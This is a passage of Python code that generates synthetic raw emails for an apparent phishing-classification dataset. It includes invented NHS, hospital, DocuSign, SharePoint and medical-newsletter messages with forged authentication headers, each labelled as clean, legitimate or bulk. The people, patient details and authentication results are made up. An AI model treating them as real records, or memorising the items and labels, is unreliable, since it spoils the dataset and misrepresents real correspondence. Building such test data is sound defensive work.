    html = simple_notice('<tr><td style="padding:18px 28px;background:#2d1e5a;color:#fff;font-size:20px">Nursing &amp; Midwifery Council</td></tr>',
                         paras, "https://online.nmc-uk.org/", "Go to NMC Online", "#2d1e5a",
                         "Please do not reply to this email. Nursing and Midwifery Council, 23 Portland Place, London W1B 1PZ.", "NMC")
    plain = ("Dear Chloe Wainwright,\nNMC PIN: 19H2208E\n\nYour revalidation application is due by 1 June 2025. You can "
             "submit it through NMC Online: https://online.nmc-uk.org/\n\nGuidance: https://www.nmc.org.uk/revalidation/\n")
    sd = sender("m365", d, "l4", "noreply@nmc-uk.org", region="gbr")
    raw = deliver(sd, rcpt_kind="outlook", region="eur", rcpt=rc, dt=dt, seed="l4nmc",
                  head_lines=head(addr("NMC", "noreply@nmc-uk.org"), rc, "Your revalidation application is due by 1 June 2025",
                                  d, sd["mid"], sig=sd["sig"]),
                  body=alt(plain, html, f"_000_{hx('l4b', 24).upper()}_"))
    add("clean", "legit", "nmc-revalidation-reminder-genuine",
        "Genuine NMC revalidation reminder from nmc-uk.org's own Microsoft 365 tenant to a nurse's Hotmail, linking to "
        "online.nmc-uk.org and nmc.org.uk only.", raw)

    # ---- Internal IT announcement: planned Epic downtime (internal M365)
    dt = "2025-04-22 14:05:33 -0400"
    d = when(dt)
    rc = "AllStaff@mercyvalleyhealth.org"
    paras = ["All,", "",
             "<b>Planned Epic downtime: Sunday April 27, 01:00-04:00</b> for the spring upgrade (Epic May 2025).", "",
             "- Downtime reports (BCA PCs) will be refreshed at 00:30. Please print unit census and MAR summaries before 01:00.",
             "- Use paper downtime forms (on the shared drive under Nursing > Downtime) for orders and documentation.",
             "- Back-entry of documentation must be completed by end of shift.", "",
             "The IT Service Desk (ext. 4357) will be staffed throughout. Unit super-users will round on all floors.", "",
             "Thank you,", "Kevin Doyle", "Director, Clinical Applications | Mercy Valley Health"]
    html = outlook_html(paras)
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras) + "\n"
    mid = msmid("l5")
    raw = internal_m365(rcpt=rc, dt=dt, seed="l5int",
                        head_lines=head(addr("Doyle, Kevin", "kdoyle@mercyvalleyhealth.org"), addr("All Staff", rc),
                                        "Planned Epic downtime - Sunday 4/27 01:00-04:00", d, mid,
                                        post=["Thread-Topic: Planned Epic downtime - Sunday 4/27 01:00-04:00",
                                              f"Thread-Index: {b64('l5ti', 30)}==", "X-MS-Has-Attach:", "X-MS-TNEF-Correlator:",
                                              "Content-Language: en-US", "msip_labels:"]),
                        body=alt(plain, html, f"_000_{hx('l5b', 24).upper()}_"))
    add("clean", "legit", "internal-epic-downtime-notice",
        "Internal hospital announcement between mailboxes of the same Microsoft 365 tenant about a planned Epic upgrade "
        "downtime, with instructions for paper downtime procedures; no links.", raw)

    # ---- Rota change from a ward manager within NHSmail
    dt = "2024-11-28 16:51:20 +0000"
    d = when(dt)
    rc = "sophie.harland@nhs.net"
    paras = ["Hi Sophie,", "",
             "Just to confirm the change we discussed on the ward: I've swapped your long day on <b>Thu 5 Dec</b> with "
             "Priya's night on <b>Sat 7 Dec</b>, so you're now on nights Sat 7 and Sun 8. HealthRoster has been updated "
             "and should show on Employee Online by tomorrow.", "",
             "Bank shifts for Christmas week go out on Monday - let me know if you want any.", "",
             "Thanks,", "Rachel", "", "Rachel Dunmore | Ward Manager, Ward 23 (Respiratory)", "Tel: 0113 206 5523"]
    html = outlook_html(paras)
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras) + "\n"
    raw = internal_m365(rcpt=rc, dt=dt, seed="l6rota", region="gbr",
                        head_lines=head(addr("DUNMORE, Rachel (LEEDS TEACHING HOSPITALS NHS TRUST)", "rachel.dunmore@nhs.net"),
                                        addr("HARLAND, Sophie (LEEDS TEACHING HOSPITALS NHS TRUST)", rc),
                                        "Rota change - w/c 2 Dec", d, msmid("l6", "gbr"),
                                        post=["Thread-Topic: Rota change - w/c 2 Dec", f"Thread-Index: {b64('l6ti', 30)}==",
                                              "X-MS-Has-Attach:", "X-MS-TNEF-Correlator:", "Content-Language: en-GB"]),
                        body=alt(plain, html, f"_000_{hx('l6b', 24).upper()}_"))
    add("clean", "legit", "nhsmail-ward-rota-change",
        "Ward manager confirms a shift swap to a nurse, both on NHSmail (internal to the nhs.net tenant); personal, "
        "specific and without links or requests.", raw)



def batch_l2() -> None:
    # ---- Real referral: GP (nhs.net) to a private physiotherapy clinic, with the referral letter PDF
    dt = "2025-01-14 12:22:48 +0000"
    d = when(dt)
    rc = "admin@aireside-physio.co.uk"
    mf = "s.bhatt1@nhs.net"
    doc = F.pdf(["Moorfield Surgery, 14 Moorfield Road, Leeds LS12 3QA   ODS B86022", "",
                 "Referral to: Aireside Physiotherapy", "Patient: Mrs Janet Pollard   DOB 02/09/1958",
                 "", "Dear colleague,", "", "Thank you for seeing this 66-year-old lady with a 3-month history of left",
                 "shoulder pain, reduced abduction and night pain, clinically a rotator cuff tendinopathy.",
                 "No red flags. X-ray unremarkable. Analgesia: paracetamol, topical NSAID.",
                 "She has opted to self-fund physiotherapy due to waiting times.", "",
                 "Yours sincerely,", "Dr Sunil Bhatt, GP Partner"], None, "Referral - Mrs J Pollard")
    paras = ["Hello,", "", "Please find attached a referral for Mrs Pollard, who would like to book an assessment with you "
             "for her left shoulder. She is expecting your call on 07700 900412.", "", "Many thanks,", "",
             "Dr Sunil Bhatt", "GP Partner, Moorfield Surgery"]
    html = outlook_html(paras)
    plain = "\n".join(paras) + "\n"
    sd = sender("m365", d, "l7", mf, region="gbr", dom="nhs.net")
    sd["sig"] = [dkim("nhs.net", "selector1", d, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")]
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="l7ref", auth_over={"pol": "p=REJECT sp=REJECT dis=NONE"},
                  head_lines=head(addr("BHATT, Sunil (MOORFIELD SURGERY)", mf), rc, "Referral - Mrs J Pollard (DOB 02/09/1958)",
                                  d, sd["mid"], sig=sd["sig"], post=fill(sd["post"], "Referral - Mrs J Pollard (DOB 02/09/1958)", True)),
                  body=Multi("mixed", f"_004_{hx('l7m', 24).upper()}_", [alt(plain, html, f"_000_{hx('l7a', 24).upper()}_"),
                             attachment("application/pdf", "Referral_Pollard_J.pdf", doc)]))
    add("clean", "legit", "gp-referral-physio-nhsnet",
        "Genuine GP referral letter (PDF, text only) sent from an nhs.net mailbox to a private physiotherapy clinic; "
        "authenticated NHSmail, specific clinical content, no links.", raw)

    # ---- Genuine Henry Schein invoice with PDF
    dt = "2025-09-04 03:12:55 -0400"
    d = when(dt)
    rc = "billing@riversidefamilydental.com"
    inv = str(num("l8i", 7700000, 7799999))
    doc = F.pdf(["HENRY SCHEIN DENTAL  -  INVOICE", f"Invoice #: {inv}      Invoice date: 09/03/2025", "Customer: RIVERSIDE FAMILY DENTAL   Acct 40218867",
                 "", "Qty  Item                                   Amount", "4    Nitrile exam gloves M (box 200)        $71.96",
                 "2    Prophy paste, medium grit (200 ct)     $89.98", "1    Composite A2 syringe 4g                $54.25",
                 "", "Subtotal $216.19   Shipping $0.00   Total $216.19", "Terms: Net 30. Pay online at henryschein.com/payments"],
                None, f"Invoice {inv}")
    plain = (f"Dear Customer,\n\nAttached is invoice {inv} for your recent order. Payment terms: Net 30.\nYou can view and pay "
             "your invoices at https://www.henryschein.com/us-en/dental/myaccount/\n\nThank you for your business,\n"
             "Henry Schein Dental - Customer Service 1-800-372-4346\n")
    html = outlook_html(plain.strip().split("\n"))
    sd = sender("ses", d, "l8", f"0100{hx('l8r', 12)}@bounce.henryschein.com", dom="henryschein.com")
    sd["auth"]["mf"] = "bounce.henryschein.com"
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="l8hs", auth_over={"pol": "p=REJECT sp=REJECT dis=NONE"},
                  head_lines=head(addr("Henry Schein Dental", "invoices@henryschein.com"), rc, f"Henry Schein Invoice {inv}",
                                  d, sd["mid"], sig=sd["sig"], post=sd["post"]),
                  body=Multi("mixed", f"----=_Part_{hx('l8m', 16)}", [alt(plain, html, f"----=_Part_{hx('l8a', 16)}"),
                             attachment("application/pdf", f"Invoice_{inv}.pdf", doc)]))
    add("clean", "legit", "henry-schein-invoice-genuine",
        "Genuine Henry Schein Dental invoice email from henryschein.com via Amazon SES (all checks pass) with a PDF invoice "
        "for small consumables, pointing to the real account portal; no bank details or changes.", raw)

    # ---- Genuine DocuSign: locum contract from a staffing agency
    dt = "2025-05-06 15:40:12 -0500"
    d = when(dt)
    rc = "dr.arjun.mehta@gmail.com"
    url = (f"https://na3.docusign.net/Signing/EmailStart.aspx?a={hx('l9a', 8)}-{hx('l9b', 4)}-{hx('l9c', 4)}-{hx('l9d', 4)}-"
           f"{hx('l9e', 12)}&etti=24&acct={hx('l9f', 8)}-{hx('l9g', 4)}-{hx('l9h', 4)}-{hx('l9i', 4)}-{hx('l9j', 12)}&er="
           f"{hx('l9k', 8)}-{hx('l9l', 4)}-{hx('l9m', 4)}-{hx('l9n', 4)}-{hx('l9o', 12)}")
    html = page(
        '<tr><td style="padding:20px 24px;background:#1e1e1e"><span style="color:#fff;font-size:20px;font-weight:bold">Docusign</span></td></tr>\n'
        '<tr><td style="padding:28px 24px;background:#4c00ff;color:#fff;text-align:center;font-size:18px">'
        'Jordan Ellis sent you a document to review and sign.<br><br>'
        f'<a href="{url}" style="background:#fff;color:#4c00ff;padding:10px 24px;text-decoration:none;font-size:14px;'
        'font-weight:bold">REVIEW DOCUMENT</a></td></tr>\n'
        '<tr><td style="padding:22px 24px;line-height:21px"><b>Jordan Ellis</b><br>jellis@comphealth.com<br><br>'
        'Hi Dr. Mehta, here is the locum tenens assignment confirmation for the hospitalist coverage at St. Vincent '
        'Regional (June 2-13) we discussed on the phone. Let me know if anything needs changing.<br><br>Thanks, Jordan</td></tr>\n'
        '<tr><td style="padding:16px 24px;font-size:11px;color:#666;background:#f4f4f4"><b>Do Not Share This Email</b><br>'
        'This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.'
        '<br><br>This message was sent to you by Jordan Ellis who is using the Docusign Electronic Signature Service.</td></tr>',
        "Docusign")
    plain = (f"Jordan Ellis sent you a document to review and sign.\n\nREVIEW DOCUMENT: {url}\n\nJordan Ellis\n"
             "jellis@comphealth.com\n\nHi Dr. Mehta, here is the locum tenens assignment confirmation for the hospitalist "
             "coverage at St. Vincent Regional (June 2-13) we discussed on the phone.\n")
    raw = mail(rcpt_kind="gmail", rcpt=rc, dt=dt, helo="mailda.docusign.net", host="mailda.docusign.net", ip="64.207.219.75",
               seed="l9ds",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "docusign.net", "from": "docusign.net",
                     "d": "docusign.net", "s": "mail", "mfaddr": "dse_na3@docusign.net", "pol": "p=REJECT sp=REJECT dis=NONE"},
               hops=[hop("docusign.net ([127.0.0.1])", "mailda.docusign.net (Postfix)", d, 2, "ESMTP", alnum("l9pf", 10, True))],
               head=head(addr("Jordan Ellis via Docusign", "dse_NA3@docusign.net"), addr("Arjun Mehta", rc),
                         "Please DocuSign: Locum Assignment Confirmation - St. Vincent Regional (Jun 2-13)", d,
                         f"<{hx('l9mid', 32)}@docusign.net>",
                         sig=[dkim("docusign.net", "mail", d, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:Reply-To")],
                         reply_to=addr("Jordan Ellis", "jellis@comphealth.com"),
                         post=[f"X-DocuSign-EnvelopeID: {hx('l9env', 8).upper()}-{hx('l9env2', 4).upper()}-{hx('l9env3', 4).upper()}-{hx('l9env4', 4).upper()}-{hx('l9env5', 12).upper()}",
                               "X-DocuSign-Email-Type: EnvelopeActivation"]),
               body=alt(plain, html, f"----=_Part_{num('l9p', 100000, 999999)}_{num('l9q', 10**6, 10**7)}"))
    add("clean", "legit", "docusign-locum-contract-genuine",
        "Genuine DocuSign envelope (docusign.net) from a locum-staffing recruiter at a real agency domain, sending a "
        "doctor the assignment confirmation they discussed by phone; reply-to matches the sender shown.", raw)

    # ---- Genuine internal SharePoint share of a policy document
    dt = "2025-02-03 10:08:44 -0500"
    d = when(dt)
    rc = "apark@mercyvalleyhealth.org"
    url = ("https://mercyvalleyhealth.sharepoint.com/:w:/r/sites/InfectionPrevention/Shared%20Documents/Policies/"
           "IP-014%20Isolation%20Precautions%20v4.docx?d=w" + hx("l10d", 32) + "&csf=1&web=1&e=" + alnum("l10e", 6))
    post, body, meta = spo_share("Grace Whitaker", "gwhitaker@mercyvalleyhealth.org", rc, "IP-014 Isolation Precautions v4.docx",
                                 url, "Hi Alex - here's the draft v4 with the C. diff changes from committee. Comments by Friday please.",
                                 d, "l10", "mercyvalleyhealth.sharepoint.com", "DOCX")
    ip = "40.107.220.102"
    host = "NAM11-BN8-obe.outbound.protection.outlook.com"
    raw = mail(rcpt_kind="m365", rcpt=rc, dt=dt, helo=host, host=host, ip=ip, seed="l10spo", auth=meta["auth"],
               hops=[hop(f"DM6PR03MB{num('l10s', 1000, 9999)}.namprd03.prod.outlook.com\n (2603:10b6:5:{hx('l10h', 3)}::1{num('l10x', 1, 9)})",
                         f"DM6PR03MB{num('l10s', 1000, 9999)}.namprd03.prod.outlook.com", d.astimezone(timezone.utc), 1,
                         "Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)", "15.20.8398.18")],
               head=head(addr("Grace Whitaker (via SharePoint)", "no-reply@sharepointonline.com"), rc,
                         "Grace Whitaker shared \"IP-014 Isolation Precautions v4\" with you", d, meta["mid"],
                         sig=[dkim("sharepointonline.com", "selector1", d, "From:Date:Subject:Message-ID:Content-Type:MIME-Version")],
                         reply_to=addr("Grace Whitaker", "gwhitaker@mercyvalleyhealth.org"), post=post),
               body=body)
    add("clean", "legit", "sharepoint-policy-share-internal",
        "Genuine SharePoint Online sharing notification: an infection-prevention colleague in the same hospital tenant "
        "shares a policy draft on the hospital's own SharePoint site.", raw)

    # ---- Personal mail with holiday photos between friends (Gmail)
    dt = "2024-08-19 21:37:10 -0400"
    d = when(dt)
    rc = "brianna.okafor.rn@gmail.com"
    mf = "tasha.greene22@gmail.com"
    paras = ["Bri!!", "", "Finally got the pics off my phone from the lake - the sunset one is my favourite, you need to "
             "frame it. Same time next year? I'm already putting in my PTO lol", "", "Love ya", "Tasha"]
    plain = "\n".join(paras) + "\n"
    html = gmail_html([p.replace("'", "&#39;") for p in paras])
    sd = sender("gmail", d, "l11", mf)
    raw = deliver(sd, rcpt_kind="gmail", rcpt=rc, dt=dt, seed="l11ph",
                  head_lines=head(addr("Tasha Greene", mf), rc, "lake pics!!", d, sd["mid"], sig=sd["sig"]),
                  body=Multi("mixed", f"000000000000{hx('l11m', 16)}", [alt(plain, html, f"000000000000{hx('l11a', 16)}"),
                             attachment("image/jpeg", "IMG_4471.jpeg", F.photo_jpeg(33)),
                             attachment("image/jpeg", "IMG_4478.jpeg", F.photo_jpeg(34))]))
    add("clean", "legit", "friend-lake-photos-gmail",
        "Personal Gmail message from a friend to a nurse with two holiday photos attached; casual, no links.", raw)

    # ---- Genuine recruiter from a real staffing company (M365) to a nurse's Gmail
    dt = "2025-03-11 11:26:50 -0700"
    d = when(dt)
    rc = "kayla.j.simmons@gmail.com"
    mf = "marcus.lee@amnhealthcare.com"
    paras = ["Hi Kayla,", "",
             "Thanks for taking my call this morning. As promised, here's a summary of the ICU position we talked about:", "",
             "- Banner University Medical Center, Tucson AZ - Med/Surg ICU, 13 weeks, nights, 3x12", "- Start date: April 14",
             "- Weekly gross: $2,380 (taxable + non-taxable stipends, breakdown in your Passport app)", "",
             "If you'd like me to submit you, just complete the skills checklist and references in the AMN Passport app; "
             "I'll take care of the rest. No rush - the unit manager is interviewing through next week.", "",
             "Best,", "Marcus Lee", "Senior Recruiter, Travel Nursing | AMN Healthcare", "(866) 555-0148 ext. 3321"]
    html = outlook_html(paras)
    plain = "\n".join(paras) + "\n"
    sd = sender("m365", d, "l12", mf, dom="amnhealthcare.com")
    raw = deliver(sd, rcpt_kind="gmail", rcpt=rc, dt=dt, seed="l12amn", auth_over={"pol": "p=REJECT sp=REJECT dis=NONE"},
                  head_lines=head(addr("Marcus Lee", mf), rc, "ICU travel position - Tucson (summary from our call)", d,
                                  sd["mid"], sig=sd["sig"], post=fill(sd["post"], "ICU travel position - Tucson (summary from our call)", False)),
                  body=alt(plain, html, f"_000_{hx('l12b', 24).upper()}_"))
    add("clean", "legit", "travel-nurse-recruiter-genuine",
        "Genuine follow-up from a recruiter at a real travel-nurse agency's Microsoft 365 domain summarising a phone call, "
        "realistic pay, no links and no request for SSN or bank data by email.", raw)



def batch_l3() -> None:
    # ---- French internal: on-call rota for December (internal M365) with the PDF planning
    dt = "2024-11-22 17:12:05 +0100"
    d = when(dt)
    rc = "medecins@clinique-saintroch.fr"
    doc = F.pdf(["Clinique Saint-Roch - Planning des gardes - Décembre 2024", "",
                 "Lun 02  Dr Lefebvre      Mar 03  Dr Amrani      Mer 04  Dr Roussel",
                 "Jeu 05  Dr Petit         Ven 06  Dr Lefebvre    Sam 07  Dr Garnier",
                 "...", "24/12  Dr Amrani   25/12  Dr Roussel   31/12  Dr Petit   01/01  Dr Garnier"], None, "Planning des gardes")
    paras = ["Bonjour à tous,", "", "Vous trouverez ci-joint le planning des gardes de décembre, validé en CME mardi. "
             "Les échanges restent possibles entre vous, merci simplement de me prévenir pour que je mette à jour le "
             "tableau affiché aux urgences.", "", "Pour les fêtes : Dr Amrani le 24, Dr Roussel le 25.", "",
             "Bonne soirée,", "Claire Moreau", "Secrétariat de direction médicale - Clinique Saint-Roch", "Tél. 04 67 00 12 34"]
    html = outlook_html(paras)
    plain = "\n".join(paras) + "\n"
    raw = internal_m365(rcpt=rc, dt=dt, seed="l13fr", region="fra",
                        head_lines=head(addr("Claire Moreau", "c.moreau@clinique-saintroch.fr"), addr("Médecins Saint-Roch", rc),
                                        "Planning des gardes - décembre 2024", d, msmid("l13", "fra"),
                                        post=["Thread-Topic: Planning des gardes - decembre 2024", f"Thread-Index: {b64('l13ti', 30)}==",
                                              "X-MS-Has-Attach: yes", "X-MS-TNEF-Correlator:", "Content-Language: fr-FR"]),
                        body=Multi("mixed", f"_004_{hx('l13m', 24).upper()}_", [alt(plain, html, f"_000_{hx('l13a', 24).upper()}_"),
                                   attachment("application/pdf", "Planning_gardes_decembre_2024.pdf", doc)]))
    add("clean", "legit", "planning-gardes-interne-fr",
        "Internal French clinic message (same Microsoft 365 tenant) sending the December on-call rota as a PDF to the "
        "doctors' distribution list.", raw)

    # ---- Genuine Availity password-expiry notice
    dt = "2025-08-18 07:30:12 -0400"
    d = when(dt)
    rc = "billing@lakeviewortho.com"
    paras = ["Hello Dana,", "Your Availity Essentials password will expire in <b>10 days</b>.",
             "To change it, log in at apps.availity.com and go to My Account Dashboard &gt; Change Password. If you have "
             "trouble logging in, contact your organization's Availity administrator."]
    html = simple_notice('<tr><td style="padding:16px 28px;border-bottom:3px solid #f26522"><span style="font-size:24px;color:#003a5d;'
                         'font-weight:bold">availity</span></td></tr>', paras,
                         "https://apps.availity.com/availity/web/public.elegant.login", "Log in to Availity", "#003a5d",
                         "Please do not reply to this automated message. Availity, LLC, 5555 Gate Parkway, Suite 110, "
                         "Jacksonville, FL 32256", "Availity")
    plain = ("Hello Dana,\n\nYour Availity Essentials password will expire in 10 days.\n\nTo change it, log in at "
             "https://apps.availity.com/availity/web/public.elegant.login and go to My Account Dashboard > Change Password.\n")
    sd = sender("ses", d, "l14", f"0100{hx('l14r', 12)}@mail.availity.com", dom="availity.com")
    sd["auth"]["mf"] = "mail.availity.com"
    raw = deliver(sd, rcpt_kind="m365", rcpt=rc, dt=dt, seed="l14av",
                  head_lines=head(addr("Availity", "noreply@availity.com"), rc, "Your Availity password expires in 10 days",
                                  d, sd["mid"], sig=sd["sig"], post=sd["post"]),
                  body=alt(plain, html, f"----=_Part_{hx('l14b', 16)}"))
    add("clean", "legit", "availity-password-expiry-genuine",
        "Genuine Availity password-expiry reminder from availity.com via Amazon SES (all checks pass), directing the user "
        "to the real apps.availity.com login.", raw)

    # ---- Spanish: periodontist colleague about a shared patient (Google Workspace to Google Workspace)
    dt = "2025-05-27 13:48:30 +0200"
    d = when(dt)
    rc = "dr.navarro@clinicadentalsonrisa.es"
    mf = "irene.sanchez@periodoncia-castellana.es"
    paras = ["Hola Javier,", "", "Te escribo por la paciente que me derivaste, Carmen R. (44 años). Hicimos el sondaje y "
             "el raspado y alisado radicular del segundo y tercer cuadrante; la respuesta es buena y ya no hay sangrado "
             "en 36 y 37.", "", "Yo esperaría unos tres meses para revaluar antes de plantear el implante en 46. Si te "
             "parece, la vemos juntos en la revisión de septiembre.", "", "Un abrazo,", "Irene", "--",
             "Dra. Irene Sánchez · Periodoncia Castellana · Tel. 915 55 01 27"]
    html = gmail_html(paras)
    plain = "\n".join(paras) + "\n"
    ip = "209.85.220.69"
    raw = mail(rcpt_kind="gws", rcpt=rc, dt=dt, helo="mail-sor-f69.google.com", host="mail-sor-f69.google.com", ip=ip,
               seed="l15es",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "periodoncia-castellana.es",
                     "from": "periodoncia-castellana.es", "d": "periodoncia-castellana.es", "s": "google", "mfaddr": mf,
                     "pol": "p=NONE sp=NONE dis=NONE"},
               hops=[f"by 2002:a05:6402:{hx('l15h', 4)} with SMTP id {alnum('l15hh', 20).lower()};\n        {fmt(d + timedelta(seconds=1))}"],
               head=head(addr("Irene Sánchez", mf), addr("Javier Navarro", rc), "Paciente Carmen R. - evolución periodontal",
                         d, gmid("l15"), sig=[dkim("periodoncia-castellana.es", "google", d, "mime-version:from:date:message-id:subject:to")]),
               body=alt(plain, html, f"000000000000{hx('l15b', 16)}"))
    add("clean", "legit", "periodoncista-paciente-derivada-es",
        "Spanish periodontist writes from her clinic's Google Workspace domain to the referring dentist about a shared "
        "patient's treatment; personal clinical follow-up with no links or attachments.", raw)


def bulk_msg(*, kind: str, seed: str, dt: str, rc: str, rcpt_kind: str, region: str, dom: str, frm: str, subj: str,
             html: str, plain: str, unsub_url: str, extra_post: list[str] | None = None, list_id: str = "") -> bytes:
    d = when(dt)
    e = esp(kind, d, seed, dom, frm)
    post = unsub(unsub_url) + e["post"] + (list(extra_post or []))
    if list_id:
        post.insert(0, f"List-ID: {list_id}")
    return mail(rcpt_kind=rcpt_kind, region=region, rcpt=rc, dt=dt, helo=e["host"], host=e["host"], ip=e["ip"], auth=e["auth"],
                hops=e["hops"], head=head(frm, rc, subj, d, e["mid"], sig=e["sig"], post=post),
                body=alt(plain, html, f"----={hx(seed + 'bd', 24)}"), seed=seed)


def news_html(brand: str, colour: str, items: list[tuple[str, str, str]], footer: str, preheader: str = "") -> str:
    rows = (f'<tr><td style="display:none;font-size:1px;color:#fff">{preheader}</td></tr>\n' if preheader else "")
    rows += f'<tr><td style="padding:18px 26px;background:{colour};color:#fff;font-size:22px;font-weight:bold">{brand}</td></tr>\n'
    for title, blurb, url in items:
        rows += (f'<tr><td style="padding:14px 26px;border-bottom:1px solid #eee"><a href="{url}" style="color:#1a1a1a;'
                 f'font-size:16px;font-weight:bold;text-decoration:none">{title}</a><br><span style="color:#555;line-height:20px">'
                 f'{blurb}</span></td></tr>\n')
    rows += f'<tr><td style="padding:16px 26px;font-size:11px;color:#888">{footer}</td></tr>'
    return page(rows, brand)


def news_plain(brand: str, items: list[tuple[str, str, str]], footer: str) -> str:
    out = brand + "\n\n"
    for title, blurb, url in items:
        out += f"{title}\n{blurb}\n{url}\n\n"
    import re
    return out + re.sub("<[^>]+>", "", footer).replace("&amp;", "&").replace("&middot;", "-") + "\n"



def batch_b1() -> None:
    def sfmc_link(host: str, seed: str) -> str:
        return f"https://{host}/?qs={hx(seed, 96)}"

    # ---- Medscape CME newsletter (Salesforce Marketing Cloud)
    items = [(t, b, sfmc_link("click.mail.medscape.com", f"b1{i}")) for i, (t, b) in enumerate([
        ("GLP-1 Receptor Agonists and Perioperative Aspiration Risk", "New guidance on holding semaglutide before elective "
         "procedures. 0.25 CME/CE credits."),
        ("Case Challenge: Fever, Rash and Joint Pain After a Trip", "Test your diagnostic skills on this returning-traveler case."),
        ("Sepsis Bundles in 2025: What Has Changed?", "An expert panel reviews the latest Surviving Sepsis Campaign updates. 1.0 CME.")])]
    footer = ("You are receiving this email because you are a registered member of Medscape. "
              f'<a href="{sfmc_link("click.mail.medscape.com", "b1u")}">Unsubscribe</a> &middot; Medscape, LLC, 283-299 Market '
              "Street, 2 Gateway Center, 4th Floor, Newark, NJ 07102")
    raw = bulk_msg(kind="sfmc", seed="b1med", dt="2025-09-23 06:14:22 -0400", rc="cmorrison@mercyvalleyhealth.org",
                   rcpt_kind="m365", region="nam", dom="mail.medscape.com",
                   frm=addr("Medscape CME & Education", "cme@mail.medscape.com"),
                   subj="Perioperative GLP-1 RA Guidance | Case Challenge | Sepsis 2025",
                   html=news_html("Medscape Education", "#005b94", items, footer, "Your weekly CME picks"),
                   plain=news_plain("Medscape Education", items, footer),
                   unsub_url=sfmc_link("click.mail.medscape.com", "b1lu"))
    add("bulk", "bulk", "medscape-cme-weekly",
        "Medscape CME newsletter to a physician via Salesforce Marketing Cloud (mail.medscape.com, authenticated) with "
        "click.mail.medscape.com tracking links and one-click unsubscribe.", raw)

    # ---- BMJ table-of-contents alert (Amazon SES)
    items = [(t, b, f"https://www.bmj.com/content/{num('b2' + t, 380, 390)}/{num('b2b' + t, 8000, 8500)}?utm_source=etoc&utm_medium=email&utm_campaign=tbmj")
             for t, b in [("Antibiotic duration for community acquired pneumonia in adults: randomised trial", "Research"),
                          ("Managing perimenopausal symptoms in primary care", "Practice"),
                          ("Resident doctors' strikes: what happens next?", "News analysis")]]
    footer = ('You are receiving this eTOC alert because you signed up at bmj.com. <a href="https://myaccount.bmj.com/myaccount/'
              'alerts.html">Manage alerts</a> &middot; BMJ Publishing Group Ltd, BMA House, Tavistock Square, London WC1H 9JR')
    d = when("2025-02-07 07:01:13 +0000")
    e = sender("ses", d, "b2bmj", f"0102{hx('b2r', 12)}@alerts.bmj.com", dom="bmj.com")
    e["auth"]["mf"] = "alerts.bmj.com"
    html = news_html("The BMJ - This week", "#2a6ebb", items, footer)
    raw = mail(rcpt_kind="gmail", rcpt="dr.arjun.mehta@gmail.com", dt="2025-02-07 07:01:13 +0000", helo=e["host"], host=e["host"],
               ip=e["ip"], auth=e["auth"], hops=e["hops"], seed="b2bmj",
               head=head(addr("The BMJ", "etoc@bmj.com"), "dr.arjun.mehta@gmail.com", "The BMJ: 8 February 2025", d,
                         e["mid"], sig=e["sig"], post=unsub("https://myaccount.bmj.com/myaccount/alerts/unsubscribe?u=" + hx("b2u", 20)) + e["post"]),
               body=alt(news_plain("The BMJ - This week", items, footer), html, f"----={hx('b2bd', 24)}"))
    add("bulk", "bulk", "bmj-etoc-alert",
        "The BMJ weekly table-of-contents alert to a doctor's Gmail via Amazon SES (bmj.com DKIM), links to bmj.com articles "
        "and account alert settings.", raw)

    # ---- Royal College of Nursing bulletin (Dotdigital-like ESP, own tracking domain)
    items = [(t, b, f"https://{alnum('b3s', 5).lower()}.r.sp1-brevo.net/mk/cl/f/sh/{alnum('b3' + t, 40)}") for t, b in [
        ("Pay: have your say in the 2025/26 consultation", "Members in England can vote until 12 May."),
        ("Safe staffing: new RCN guidance for ward managers", "Practical tools for raising concerns about staffing levels."),
        ("Free webinar: revalidation made simple", "Tuesday 22 April, 19:00. Register now.")]]
    footer = ("You are receiving this as an RCN member. Royal College of Nursing, 20 Cavendish Square, London W1G 0RN. "
              '<a href="https://' + alnum("b3s", 5).lower() + '.r.sp1-brevo.net/mk/un/v2/sh/' + alnum("b3u", 40) + '">Unsubscribe</a>')
    raw = bulk_msg(kind="brevo", seed="b3rcn", dt="2025-04-10 12:00:41 +0100", rc="sophie.harland@nhs.net", rcpt_kind="m365",
                   region="gbr", dom="e.rcn.org.uk", frm=addr("Royal College of Nursing", "news@e.rcn.org.uk"),
                   subj="RCN Bulletin: pay consultation, safe staffing and revalidation webinar",
                   html=news_html("RCN Bulletin", "#2f195f", items, footer), plain=news_plain("RCN Bulletin", items, footer),
                   unsub_url="https://" + alnum("b3s", 5).lower() + ".r.sp1-brevo.net/mk/un/v2/sh/" + alnum("b3lu", 40))
    add("bulk", "bulk", "rcn-member-bulletin",
        "Royal College of Nursing member bulletin to an nhs.net nurse from an authenticated marketing subdomain, with "
        "tracked links and a one-click unsubscribe.", raw)

    # ---- BVA newsletter via Mailchimp (vet practice)
    def mc(seed: str) -> str:
        return f"https://bva.us5.list-manage.com/track/click?u={hx('b4u', 25)}&id={hx(seed, 10)}&e={hx('b4e', 10)}"
    items = [(t, b, mc("b4" + t)) for t, b in [
        ("CMA market investigation: what the provisional decision means for practices", "Our summary and next steps."),
        ("BVA Live 2025 - early bird tickets", "Two days of CPD in Birmingham, 5-6 June."),
        ("Workforce survey: tell us about your working hours", "Ten minutes to help us make the case for vets.")]]
    footer = ("Copyright &copy; 2025 British Veterinary Association, All rights reserved.<br>You are receiving this email "
              f'because you are a BVA member.<br><a href="{mc("b4unsub")}">unsubscribe from this list</a> &middot; '
              f'<a href="{mc("b4pref")}">update subscription preferences</a>')
    raw = bulk_msg(kind="mailchimp", seed="b4bva", dt="2025-03-06 10:30:08 +0000", rc="vets@northgatevets.co.uk",
                   rcpt_kind="gws", region="nam", dom="bva.co.uk", frm=addr("British Veterinary Association", "news@bva.co.uk"),
                   subj="BVA News: CMA provisional decision, BVA Live tickets and workforce survey",
                   html=news_html("BVA News", "#00857c", items, footer), plain=news_plain("BVA News", items, footer),
